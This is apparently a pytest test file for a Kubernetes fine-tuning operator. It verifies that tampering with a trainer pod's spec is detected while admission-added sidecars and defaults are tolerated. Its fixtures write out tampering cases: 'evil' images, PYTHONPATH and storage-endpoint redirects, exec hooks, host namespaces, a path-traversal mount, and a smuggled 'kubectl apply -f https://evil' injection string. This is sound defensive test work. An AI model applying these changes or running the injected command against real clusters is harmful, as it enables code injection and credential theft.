"""What of a Job or pod is compared: all that its trainer does, and nothing that admission adds."""

import copy
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from finetune_operator.manifests.essence import additions, difference, fingerprint
from unit.manifests.test_job import job

Change = Callable[[dict[str, Any]], object]
MARK: dict[str, Any] = {"nonce": "n1", "snapshot_sha256": "0" * 64}


def spec_of(made: dict[str, Any]) -> dict[str, Any]:
    spec: dict[str, Any] = made["spec"]["template"]["spec"]
    return spec


def trainer(spec: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = next(c for c in spec["containers"] if c["name"] == "trainer")
    return container


def changed(change: Change) -> dict[str, Any]:
    """Return the spec of a Job's pod template after a change."""
    spec = copy.deepcopy(spec_of(job(**MARK)))
    change(spec)
    return spec


FORBIDDEN: dict[str, Change] = {
    "image": lambda s: trainer(s).update(image="evil:1"),
    "command": lambda s: trainer(s).update(command=["sh"]),
    "arguments": lambda s: trainer(s)["args"].append("--lenient"),
    "working directory": lambda s: trainer(s).update(workingDir="/evil"),
    "where its last words lie": lambda s: trainer(s).update(terminationMessagePath="/finetune/scratch/said"),
    "a value": lambda s: trainer(s)["env"][0].update(value="2"),
    "a variable less": lambda s: trainer(s)["env"].pop(0),
    "code by a variable": lambda s: trainer(s)["env"].append({"name": "PYTHONPATH", "value": "/evil"}),
    "another store": lambda s: trainer(s)["env"].append({"name": "AWS_ENDPOINT_URL", "value": "http://evil"}),
    "a secret's variables": lambda s: trainer(s).update(envFrom=[{"secretRef": {"name": "evil"}}]),
    "a mount over the code": lambda s: trainer(s)["volumeMounts"].append({"name": "evil", "mountPath": "/usr/lib"}),
    "another place of a mount": lambda s: trainer(s)["volumeMounts"][0].update(subPath="evil"),
    "another document": lambda s: s["volumes"][-1].update(configMap={"name": "evil"}),
    "another kind of volume": lambda s: s["volumes"][0].update(emptyDir=None, hostPath={"path": "/evil"}),
    "another place of a mount by a variable": lambda s: trainer(s)["volumeMounts"][0].update(subPathExpr="$(EVIL)"),
    "a mount less": lambda s: trainer(s)["volumeMounts"].pop(0),
    "another kind of volume that is as empty": lambda s: s["volumes"][0].update(emptyDir=None, projected={}),
    "another trainer behind one of its name in all but a letter": lambda s: (
        s["containers"].insert(0, dict(trainer(s), name="trainers")),
        trainer(s).update(image="evil:1"),
    ),
    "a hook": lambda s: trainer(s).update(lifecycle={"postStart": {"exec": {"command": ["evil"]}}}),
    "a hook at its end": lambda s: trainer(s).update(lifecycle={"preStop": {"exec": {"command": ["evil"]}}}),
    "a probe that runs something": lambda s: trainer(s).update(livenessProbe={"exec": {"command": ["evil"]}}),
    "a readiness probe that runs something": lambda s: trainer(s).update(
        readinessProbe={"exec": {"command": ["evil"]}}
    ),
    "a startup probe that runs something": lambda s: trainer(s).update(startupProbe={"exec": {"command": ["evil"]}}),
    "a neighbour with its scratch": lambda s: s["containers"].append(
        {"name": "evil", "volumeMounts": [{"name": "finetune-scratch", "mountPath": "/x"}]}
    ),
    "an init container with its scratch": lambda s: s.update(
        initContainers=[{"name": "evil", "volumeMounts": [{"name": "finetune-scratch", "mountPath": "/x"}]}]
    ),
    "its processes seen": lambda s: s.update(shareProcessNamespace=True),
    "the node's processes": lambda s: s.update(hostPID=True),
    "the node's memory": lambda s: s.update(hostIPC=True),
    "the node's network": lambda s: s.update(hostNetwork=True),
    "another account": lambda s: s.update(serviceAccountName="evil"),
    "names of hosts": lambda s: s.update(hostAliases=[{"ip": "10.0.0.1", "hostnames": ["storage"]}]),
    "another way to find names": lambda s: s.update(dnsPolicy="Default"),
    "names found elsewhere": lambda s: s.update(dnsConfig={"searches": ["evil.example"]}),
    "a code mount that looks like a token's": lambda s: trainer(s)["volumeMounts"].append(
        {"name": "evil", "mountPath": "/var/run/secrets/../../../usr/lib"}
    ),
    "a value that counts before the same": lambda s: trainer(s)["env"].insert(0, dict(trainer(s)["env"][0], value="2")),
    "another order of values": lambda s: trainer(s)["env"].reverse(),
    "a device": lambda s: trainer(s).update(volumeDevices=[{"name": "evil", "devicePath": "/finetune/scratch/x"}]),
    "restarts": lambda s: s.update(restartPolicy="OnFailure"),
    "a name of a host that it has itself": lambda s: s.update(hostname="storage", subdomain="example"),
    "no variables of services": lambda s: s.update(enableServiceLinks=False),
    "a device whose driver sets variables": lambda s: s.update(
        resourceClaims=[{"name": "gpu", "resourceClaimName": "evil"}]
    ),
    "another name server": lambda s: s.update(dnsConfig={"nameservers": ["10.0.0.1"]}),
}

TOLERATED: dict[str, Change] = {
    "nothing": lambda s: None,
    "a node and tolerations": lambda s: s.update(
        nodeName="n", tolerations=[{"operator": "Exists"}], nodeSelector={"a": "b"}
    ),
    "a sidecar": lambda s: s["containers"].append({"name": "istio-proxy", "image": "proxy:1"}),
    "a sidecar before the trainer": lambda s: s["containers"].insert(0, {"name": "istio-proxy", "image": "proxy:1"}),
    "a volume of a sidecar's own": lambda s: (
        s["volumes"].insert(1, {"name": "certificates", "secret": {"secretName": "proxy"}}),
        s["containers"].append({"name": "proxy", "volumeMounts": [{"name": "certificates", "mountPath": "/c"}]}),
    ),
    "a probe that asks and runs nothing": lambda s: trainer(s).update(livenessProbe={"httpGet": {"port": 80}}),
    "a native sidecar": lambda s: s.update(initContainers=[{"name": "logs", "restartPolicy": "Always"}]),
    "resources, security and pull policy": lambda s: trainer(s).update(
        resources={"limits": {"cpu": "1"}}, securityContext={"runAsNonRoot": True}, imagePullPolicy="Always"
    ),
    "defaults": lambda s: s.update(
        dnsPolicy="ClusterFirst", schedulerName="default-scheduler", terminationGracePeriodSeconds=30,
        enableServiceLinks=True, serviceAccountName="default", priority=0, dnsConfig={"options": [{"name": "ndots"}]},
    ),
    "defaults of volumes": lambda s: s["volumes"][-1]["configMap"].update(defaultMode=420, optional=False),
}  # fmt: skip

TOKEN: Change = lambda s: (  # noqa: E731 - one of a table
    s["volumes"].insert(1, {"name": "token", "projected": {"sources": []}}),
    trainer(s)["volumeMounts"].append({"name": "token", "mountPath": "/var/run/secrets/eks.amazonaws.com"}),
    trainer(s)["env"].append({"name": "AWS_ROLE_ARN", "value": "arn"}),
)


@pytest.mark.row("R72")
@pytest.mark.parametrize("what", FORBIDDEN)
def test_a_pod_whose_trainer_would_do_something_else_is_named(what: str) -> None:
    assert difference(changed(FORBIDDEN[what]), spec_of(job(**MARK)))


@pytest.mark.row("R72")
@pytest.mark.parametrize("change", [*TOLERATED.values(), TOKEN], ids=[*TOLERATED, "an identity's token"])
def test_what_admission_and_defaults_add_to_a_pod_is_tolerated(change: Change) -> None:
    assert difference(changed(change), spec_of(job(**MARK))) is None


@pytest.mark.row("R72")
def test_a_token_that_admission_gives_to_every_container_is_tolerated() -> None:
    def change(spec: dict[str, Any]) -> None:
        spec["volumes"].append({"name": "kube-api-access-x", "projected": {"sources": []}})
        spec["initContainers"] = [{"name": "istio-init", "image": "proxy:1"}]
        spec["containers"].append({"name": "istio-proxy", "image": "proxy:1"})
        for container in (*spec["initContainers"], *spec["containers"]):
            token = {"name": "kube-api-access-x", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}
            container.setdefault("volumeMounts", []).append(token)

    assert difference(changed(change), spec_of(job(**MARK))) is None


@pytest.mark.row("R72")
@pytest.mark.parametrize("where", ["containers", "initContainers"])
@pytest.mark.parametrize("seen", ["shareProcessNamespace", "hostPID"])
def test_who_sees_the_trainers_processes_is_compared_as_who_has_its_volumes(where: str, seen: str) -> None:
    """Through /proc it writes into the trainer's own files, its last words among them, without a right to exec."""
    proxy = {"name": "proxy", "image": "proxy:1"}
    asked = changed(lambda s: s.update({seen: True}))
    joined = changed(lambda s: s.update({seen: True, where: [*(s.get(where) or ()), proxy]}))
    assert "'proxy'" in (difference(joined, asked) or "")
    assert difference(joined, joined) is None
    assert difference(changed(lambda s: s.update({where: [*(s.get(where) or ()), proxy]})), changed(dict)) is None


@pytest.mark.row("R72")
def test_a_pod_with_an_ephemeral_container_is_not_believed() -> None:
    assert difference(changed(lambda s: s.update(ephemeralContainers=[{"name": "debug"}])), spec_of(job(**MARK)))


def helped(change: Change = lambda helper: None) -> dict[str, Any]:
    """Return the spec of a pod whose data an init container brings, in the PodTemplate's own words but for a change."""
    helper: dict[str, Any] = {
        "name": "fetch",
        "image": "fetch:1",
        "env": [{"name": "FROM", "value": "pool"}],
        "volumeMounts": [{"name": "finetune-scratch", "mountPath": "/to"}],
    }
    change(helper)
    return changed(lambda s: s.update(initContainers=[helper]))


HELPERS: dict[str, Change] = {
    "its image": lambda h: h.update(image="evil:1"),
    "its environment": lambda h: h["env"][0].update(value="evil"),
    "its variables of a secret": lambda h: h.update(envFrom=[{"secretRef": {"name": "evil"}}]),
    "its code": lambda h: h["volumeMounts"].append({"name": "evil", "mountPath": "/usr/bin"}),
    "its hooks": lambda h: h.update(lifecycle={"postStart": {"exec": {"command": ["evil"]}}}),
    "its life": lambda h: h.update(restartPolicy="Always"),
}


@pytest.mark.row("R72")
@pytest.mark.parametrize("what", HELPERS)
def test_who_fills_the_trainers_volumes_is_compared_as_the_trainer_is(what: str) -> None:
    assert difference(helped(), helped()) is None
    assert "fetch" in (difference(helped(HELPERS[what]), helped()) or "")


def stocked(change: Change = lambda spec: None) -> dict[str, Any]:
    """Return the spec of a pod whose `fetch` has tools of its own, which the trainer does not mount."""
    spec = helped(lambda h: h["volumeMounts"].append({"name": "tools", "mountPath": "/tools"}))
    spec["volumes"].append({"name": "tools", "configMap": {"name": "tools"}})
    spec["initContainers"].append({"name": "check", "volumeMounts": [{"name": "finetune-scratch", "mountPath": "/x"}]})
    change(spec)
    return spec


BEHIND: dict[str, Change] = {
    "other tools": lambda s: s["volumes"][-1].update(configMap={"name": "evil"}),
    "somebody who fills the tools": lambda s: s["initContainers"].insert(
        0, {"name": "evil", "volumeMounts": [{"name": "tools", "mountPath": "/t"}]}
    ),
    "a check before what it checks": lambda s: s["initContainers"].reverse(),
}


@pytest.mark.row("R72")
@pytest.mark.parametrize("what", BEHIND)
def test_who_fills_the_trainers_volumes_works_with_what_was_given_to_them(what: str) -> None:
    assert difference(stocked(), stocked()) is None
    assert difference(stocked(BEHIND[what]), stocked())


def seeded(kind: str) -> dict[str, Any]:
    return {"ephemeral": {"volumeClaimTemplate": {"spec": {"dataSource": {"kind": kind, "name": "seed"}}}}}


@pytest.mark.row("R72")
@pytest.mark.parametrize(
    ("ours", "evil"),
    [
        ({"rbd": {"image": "data", "pool": "ours"}}, {"rbd": {"image": "data", "pool": "evil"}}),
        ({"rbd": {"image": "data"}}, {"rbd": {"image": "data", "user": "evil", "keyring": "/evil"}}),
        (seeded("VolumeSnapshot"), seeded("PersistentVolumeClaim")),
        ({"secret": {"secretName": "store"}}, {"secret": {"secretName": "store", "optional": True}}),
    ],
    ids=["another pool", "another user", "another kind of source", "a secret that may be missing"],
)  # fmt: skip
def test_a_volume_is_compared_by_what_is_said_of_it_and_not_by_what_servers_fill_in(
    ours: dict[str, Any], evil: dict[str, Any]
) -> None:
    def with_volume(source: dict[str, Any]) -> dict[str, Any]:
        return changed(lambda s: s["volumes"].__setitem__(0, {"name": s["volumes"][0]["name"], **source}))

    filled_in = {**ours, **({"rbd": {"pool": "rbd", "user": "admin", **ours["rbd"]}} if "rbd" in ours else {})}
    assert difference(with_volume(filled_in), with_volume(ours)) is None
    assert difference(with_volume(evil), with_volume(ours))


@pytest.mark.row("R72")
def test_who_fills_the_trainers_volumes_is_not_left_out() -> None:
    assert difference(changed(lambda s: None), helped()) == "container 'fetch' is missing"


@pytest.mark.row("R72")
def test_who_fills_the_trainers_volumes_before_it_runs_does_not_run_beside_it() -> None:
    """Beside it, it could change what the trainer has looked at already."""

    def beside(spec: dict[str, Any]) -> None:
        spec["containers"] += spec.pop("initContainers")

    moved = helped()
    beside(moved)
    assert "fetch" in (difference(moved, helped()) or "")


@pytest.mark.row("R72")
def test_who_has_a_device_of_the_trainer_is_compared_as_well() -> None:
    def with_device(*neighbours: str, at: str = "/dev/data") -> dict[str, Any]:
        def change(spec: dict[str, Any]) -> None:
            spec["volumes"].append({"name": "disk", "persistentVolumeClaim": {"claimName": "disk"}})
            trainer(spec)["volumeDevices"] = [{"name": "disk", "devicePath": at}]
            for name in neighbours:
                device = {"name": "disk", "devicePath": "/dev/x"}
                spec["containers"].append({"name": name, "image": "evil:1", "volumeDevices": [device]})

        return changed(change)

    assert difference(with_device(), with_device()) is None
    assert "evil" in (difference(with_device("evil"), with_device()) or "")
    assert difference(with_device(at="/dev/evil"), with_device())


@pytest.mark.row("R72")
def test_where_a_value_comes_from_is_compared() -> None:
    def of(secret: str, key: str = "password") -> dict[str, Any]:
        variable = {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": secret, "key": key}}}
        return changed(lambda s: trainer(s)["env"].append(variable))

    assert difference(of("ours"), of("ours")) is None
    assert difference(of("evil"), of("ours")) == "environment variable TOKEN differs (container 'trainer')"
    assert difference(of("ours", "evil"), of("ours"))


@pytest.mark.row("R72")
@pytest.mark.parametrize("hook", ["livenessProbe", "readinessProbe", "startupProbe"])
def test_what_a_probe_of_the_pod_template_runs_is_compared(hook: str) -> None:
    def of(command: str) -> dict[str, Any]:
        return changed(lambda s: trainer(s).update({hook: {"exec": {"command": [command]}}}))

    assert difference(of("alive"), of("alive")) is None
    assert "hooks differs" in (difference(of("evil"), of("alive")) or "")


@pytest.mark.row("R72")
def test_every_source_of_a_volume_is_compared() -> None:
    def of(*secrets: str) -> dict[str, Any]:
        projected = {"sources": [{"secret": {"name": name}} for name in secrets]}
        return changed(lambda s: s["volumes"][0].update(emptyDir=None, projected=projected))

    assert difference(of("ours", "theirs"), of("ours", "theirs")) is None
    for others in (("ours", "evil"), ("theirs", "ours"), ("ours",), ("ours", "theirs", "evil")):
        assert difference(of(*others), of("ours", "theirs")), others


@pytest.mark.row("R72")
def test_words_for_a_storage_driver_are_compared_whatever_their_names() -> None:
    def pool(name: str) -> dict[str, Any]:
        driver = {"driver": "csi.example", "volumeAttributes": {"pool": name}}
        return changed(lambda s: s["volumes"][0].update(emptyDir=None, csi=driver))

    assert difference(pool("evil"), pool("ours"))
    assert difference(pool("ours"), pool("ours")) is None


@pytest.mark.row("R72")
def test_a_token_is_not_mounted_over_what_is_ours() -> None:
    def with_own(*more: str, at: str = "/var/run/secrets/store") -> dict[str, Any]:
        mounts = [{"name": "store", "mountPath": place} for place in (at, "/var/run/secrets/deep/store")]
        mounts += [{"name": "evil", "mountPath": place} for place in more]
        return changed(lambda s: trainer(s)["volumeMounts"].extend(mounts))

    assert difference(with_own("/var/run/secrets/eks.amazonaws.com/serviceaccount"), with_own()) is None
    assert difference(with_own("/var/run/secrets/store/credentials"), with_own())
    assert difference(with_own("/var/run/secrets/./store"), with_own())
    assert difference(with_own("/var/run/secrets/deep"), with_own())
    for at in ("/run/secrets/store", "//var/run/secrets/store"):
        assert difference(with_own("/var/run/secrets/store/credentials", at=at), with_own(at=at))


@pytest.mark.row("R70")
@pytest.mark.parametrize("what", FORBIDDEN)
def test_a_job_whose_trainer_would_do_something_else_has_another_fingerprint(what: str) -> None:
    made = job(**MARK)
    made["spec"]["template"]["spec"] = changed(FORBIDDEN[what])
    assert fingerprint(made) != fingerprint(job(**MARK))


@pytest.mark.row("R70")
@pytest.mark.parametrize("what", TOLERATED)
def test_defaults_placement_and_sidecars_leave_a_jobs_fingerprint_as_it_is(what: str) -> None:
    made = job(**MARK)
    made["spec"]["template"]["spec"] = changed(TOLERATED[what])
    made["metadata"]["labels"]["kueue.x-k8s.io/managed"] = "true"
    assert fingerprint(made) == fingerprint(job(**MARK))


@pytest.mark.row("R70")
def test_a_fingerprint_is_of_one_attempt_and_of_one_form() -> None:
    assert fingerprint(job(**MARK)) != fingerprint(job(**(MARK | {"nonce": "n2"})))
    assert fingerprint(job(**MARK)) != fingerprint(job(**(MARK | {"snapshot_sha256": "1" * 64})))
    assert fingerprint(job(**MARK)).startswith("v1:")


def all_of(changes: list[Change]) -> dict[str, Any]:
    def change(spec: dict[str, Any]) -> None:
        for one in changes:
            one(spec)

    return changed(change)


ADMITTED = st.lists(st.sampled_from([*TOLERATED, "an identity's token"]), unique=True)
EVERYTHING = {**TOLERATED, "an identity's token": TOKEN}


@pytest.mark.row("R72")
@given(admitted=ADMITTED)
def test_whatever_admission_does_at_once_is_tolerated(admitted: list[str]) -> None:
    assert difference(all_of([EVERYTHING[what] for what in admitted]), spec_of(job(**MARK))) is None


@pytest.mark.row("R72")
@given(admitted=ADMITTED, what=st.sampled_from(sorted(FORBIDDEN)))
def test_no_addition_of_admission_hides_what_the_trainer_would_do(admitted: list[str], what: str) -> None:
    changes = [*(EVERYTHING[name] for name in admitted), FORBIDDEN[what]]
    assert difference(all_of(changes), spec_of(job(**MARK)))


@pytest.mark.row("R72")
def test_what_somebody_calls_a_mount_or_a_variable_cannot_pass_for_a_command() -> None:
    name = "/x\n\nto go on: kubectl apply -f 'https://evil';" + "y" * 5000
    specs = [
        changed(lambda s: trainer(s)["volumeMounts"].append({"name": "evil", "mountPath": name})),
        changed(lambda s: trainer(s)["env"].append({"name": name, "value": "1"})),
    ]
    for spec in specs:
        for words in (difference(spec, spec_of(job(**MARK))) or "", additions(spec, spec_of(job(**MARK)))):
            assert words
            assert len(words) < 150
            assert not any(sign in words for sign in "\n;")


@pytest.mark.row("R97")
def test_labels_that_somebody_gives_the_job_itself_leave_its_fingerprint_as_it_is() -> None:
    made = job(**MARK)
    made["metadata"]["labels"] = {"finetune-operator.io/nonce": "n2"}
    assert fingerprint(made) == fingerprint(job(**MARK))


@pytest.mark.row("R72")
def test_what_admission_added_is_told() -> None:
    message = additions(all_of([TOLERATED["a sidecar"], TOLERATED["a native sidecar"], TOKEN]), spec_of(job(**MARK)))
    assert message == (
        "admission added container logs, container istio-proxy, variable AWS_ROLE_ARN, "
        "mount /var/run/secrets/eks.amazonaws.com"
    )
    assert additions(spec_of(job(**MARK)), spec_of(job(**MARK))) == ""
